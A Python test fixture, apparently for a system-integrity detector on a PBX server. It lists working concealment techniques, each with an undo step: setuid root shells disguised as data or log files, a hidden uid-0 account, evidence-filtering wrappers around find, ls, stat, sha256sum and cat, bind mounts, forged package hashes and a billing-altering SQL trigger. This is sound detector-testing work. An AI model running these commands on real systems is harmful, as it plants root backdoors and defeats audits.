"""Attempts to hide a modification from whoever looks, and what has to be said all the same.

Each plants something, then hides it. It is found out where a finding has one of the marks, or where two ways of looking
are said to disagree; `undo` leaves the system as it was, but for times.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.faults.drift.deeds import GUI, PW, Mark

PLANT = "/usr/local/bin/planted"
FILE = f"{GUI}/login.php"
TOOL = "/usr/share/bash-completion/completions/mesg"


@dataclass(frozen=True)
class Trick:
    """One attempt. `disagreeing` are words of which one must stand in a disagreement, where no finding has a mark."""

    name: str
    hide: str
    undo: str
    marks: tuple[Mark, ...]
    disagreeing: tuple[str, ...] = ()
    slice: bool = False


def _files(*paths: str) -> tuple[Mark, ...]:
    return tuple(Mark("files", path) for path in paths)


def _wrapped(tool: str, body: str) -> tuple[str, str]:
    """A wrapper in a tool's place, with its size and times as far as they can be had; and the way back."""
    hide = (
        f"tool=$(command -v {tool}); cp -p $tool /run/{tool}.real; cp -p $tool /run/{tool}.fake; "
        f"printf '%s\\n' '#!/bin/sh' {_quoted(body)} >/run/{tool}.fake; "
        f"truncate -r /run/{tool}.real /run/{tool}.fake; touch -r /run/{tool}.real /run/{tool}.fake; "
        # In place of the name, so that running programs keep theirs.
        f"cp -p /run/{tool}.fake $tool.new && mv $tool.new $tool\n"
    )
    undo = f"cp -p /run/{tool}.real $(command -v {tool}).new && mv $(command -v {tool}).new $(command -v {tool})\n"
    return hide, undo


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


PLANTED = f"printf '#!/bin/sh\\nexit 0\\n' >{PLANT}; chmod 4755 {PLANT}\n"
GONE = f"rm -f {PLANT}\n"
# A line that names the plant, or the fake itself, is swallowed; NUL-ended records, too.
NO_PLANT = "exec /run/find.real \"$@\" | /bin/sed -z '/planted/d' | /bin/sed '/planted/d'; exit 0"
HASHES = '/run/sha256sum.real "$@" | while read -r hash name; do case $name in *login.php) hash=$(cat /run/old.hash) ;; esac; printf "%s  %s\\n" "$hash" "$name"; done; exit 0'  # fmt: skip
OLD_HASH = f"sha256sum {FILE} | cut -c1-64 >/run/old.hash; cp -p {FILE} /run/login.kept; echo '// open' >>{FILE}\n"
KEPT_BACK = f"cp -p /run/login.kept {FILE}\n"
HIDDEN_TRIGGER = "CREATE TRIGGER planted_hidden BEFORE INSERT ON cdr FOR EACH ROW SET NEW.billsec = 0"
SQL = "/opt/pbxware/sh/mysql pbxware -e"


def tricks() -> tuple[Trick, ...]:
    """All of them, in an order in which each leaves the next a clean system."""
    find, find_back = _wrapped("find", NO_PLANT)
    hasher, hasher_back = _wrapped("sha256sum", HASHES)
    lister, lister_back = _wrapped("ls", "/run/ls.real \"$@\" | /bin/sed '/planted/d'; exit 0")
    teller, teller_back = _wrapped("stat", "/run/stat.real \"$@\" | /bin/sed '/planted/d'; exit 0")
    reader, reader_back = _wrapped(
        "cat", 'case "$*" in *login.php*) exec /run/cat.real /run/login.kept ;; esac; exec /run/cat.real "$@"'
    )
    swapped = f"cp -p {FILE} /run/login.kept; touch -r {FILE} /run/times; tr a-m n-z </run/login.kept >{FILE}; touch -r /run/times {FILE}"
    return (
        Trick("same size, time put back", swapped, KEPT_BACK, _files(FILE), slice=True),
        Trick(
            "old file mounted over the changed one",
            f"cp -p {FILE} /run/login.kept; echo '// open' >>{FILE}; mount --bind /run/login.kept {FILE}",
            f"umount {FILE}; {KEPT_BACK}",
            (Mark("mounts", f"*{FILE}*", glob=True), *_files(FILE)),
            ("mount",),
            slice=True,
        ),
        Trick(
            "file beneath a mount",
            "mkdir -p /srv/quiet; mount -t tmpfs none /srv/quiet; umount /srv/quiet; echo x >/srv/quiet/planted; "
            "mount -t tmpfs none /srv/quiet",
            "umount /srv/quiet; rm -r /srv/quiet",
            (Mark("mounts", "*/srv/quiet*", glob=True),),
            ("mount",),
        ),
        Trick(
            "folder mounted over the product's",
            f"cp -a {GUI} /run/gui.kept; echo '// open' >>{FILE}; mount --bind /run/gui.kept {GUI}",
            f"umount {GUI}; cp -p /run/gui.kept/login.php {FILE}; rm -r /run/gui.kept",
            (Mark("mounts", f"*{GUI}*", glob=True), *_files(FILE)),
            ("mount",),
        ),
        Trick("find that keeps silent", PLANTED + find, find_back + GONE, _files(PLANT), ("find", PLANT, "/usr/local/bin"), slice=True),
        Trick(
            "find and ls that keep silent", PLANTED + find + lister, find_back + lister_back + GONE, _files(PLANT),
            ("find", PLANT, "/usr/local/bin", "ls"),
        ),
        Trick(
            "find, ls and stat that keep silent", PLANTED + find + lister + teller,
            find_back + lister_back + teller_back + GONE, _files(PLANT), ("find", PLANT, "/usr/local/bin", "ls", "stat"),
        ),
        Trick("sha256sum that tells the old hash", OLD_HASH + hasher, hasher_back + KEPT_BACK, (), ("sha256sum", "login.php")),
        Trick(
            "sha256sum and cat that tell the old file", OLD_HASH + hasher + reader, hasher_back + reader_back + KEPT_BACK,
            (), ("sha256sum", "cat", "login.php"),
        ),
        Trick(
            "another find, earlier on the way",
            PLANTED
            + "cp -p $(command -v find) /run/find.real; mkdir -p /dev/shm/b; "
            + f"printf '%s\\n' '#!/bin/sh' {_quoted(NO_PLANT.replace('/planted/d', '/planted|bashrc/d').replace('sed ', 'sed -E '))} "
            + ">/dev/shm/b/find; chmod 755 /dev/shm/b/find; cp -p /root/.bashrc /run/bashrc.kept; "
            + "sed -i '1iexport PATH=/dev/shm/b:$PATH' /root/.bashrc",
            "cp -p /run/bashrc.kept /root/.bashrc; rm -r /dev/shm/b\n" + GONE,
            _files(PLANT, "/root/.bashrc"),
            ("find", PLANT, "/usr/local/bin", "/dev/shm"),
        ),
        Trick(
            "client that swallows a trigger",
            f'{SQL} "{HIDDEN_TRIGGER}"; cp -p /opt/pbxware/sh/mysql /run/mysql.kept; '
            "printf '#!/bin/sh\\nchroot /opt/pbxware/pw /usr/bin/mysql \"$@\" | sed /planted_hidden/d\\n' >/opt/pbxware/sh/mysql",
            f"cp -p /run/mysql.kept /opt/pbxware/sh/mysql; {SQL} 'DROP TRIGGER planted_hidden'",
            (Mark("triggers", "*planted_hidden*", glob=True), *_files("/opt/pbxware/sh/mysql")),
            ("mysql",),
        ),
        Trick(
            "the package's own list of hashes made to fit",
            f"cp -p {TOOL} /run/tool.kept; cp -p /var/lib/dpkg/info/bsdutils.md5sums /run/sums.kept; : >>{TOOL}; "
            f"old=$(md5sum <{TOOL} | cut -c1-32); echo '# open' >>{TOOL}; new=$(md5sum <{TOOL} | cut -c1-32); "
            "for list in /var/lib/dpkg/info/*.md5sums; do grep -q $old $list && cp -p $list /run/sums.kept && "
            "echo $list >/run/sums.name && sed -i s/$old/$new/ $list && touch -r /run/sums.kept $list; done; "
            "test -s /run/sums.name",
            f"cp -p /run/tool.kept {TOOL}; cp -p /run/sums.kept $(cat /run/sums.name); rm /run/sums.name",
            _files(TOOL),
        ),
        Trick(
            "a package's list that claims the file",
            f"{PLANTED}cp -p /var/lib/dpkg/info/tzdata.list /run/list.kept; echo {PLANT} >>/var/lib/dpkg/info/tzdata.list; "
            "cp -p /var/lib/dpkg/info/tzdata.md5sums /run/sums.kept; "
            f"echo \"$(md5sum <{PLANT} | cut -c1-32)  ${{PLANT#/}}\" >>/var/lib/dpkg/info/tzdata.md5sums".replace("${PLANT#/}", PLANT[1:]),
            "cp -p /run/list.kept /var/lib/dpkg/info/tzdata.list; cp -p /run/sums.kept /var/lib/dpkg/info/tzdata.md5sums\n" + GONE,
            _files(PLANT),
        ),
        Trick(
            "dressed as the product's data",
            f"install -m 4755 -o root /bin/dash {PW}/var/spool/asterisk/monitor/200/call.wav",
            f"rm {PW}/var/spool/asterisk/monitor/200/call.wav",
            _files(f"{PW}/var/spool/asterisk/monitor/200/call.wav"),
        ),
        Trick(
            "dressed as a rotated log",
            "install -m 4755 -o root /bin/dash /var/log/sshd.log.1",
            "rm /var/log/sshd.log.1",
            _files("/var/log/sshd.log.1"),
        ),
        Trick(
            "an account with a package's name",
            "printf 'messagebus:x:0:0::/root:/bin/sh\\n' >>/etc/passwd",
            "sed -i '/^messagebus:x:0:0/d' /etc/passwd",
            (Mark("users", "messagebus*", glob=True),),
        ),
    )  # fmt: skip
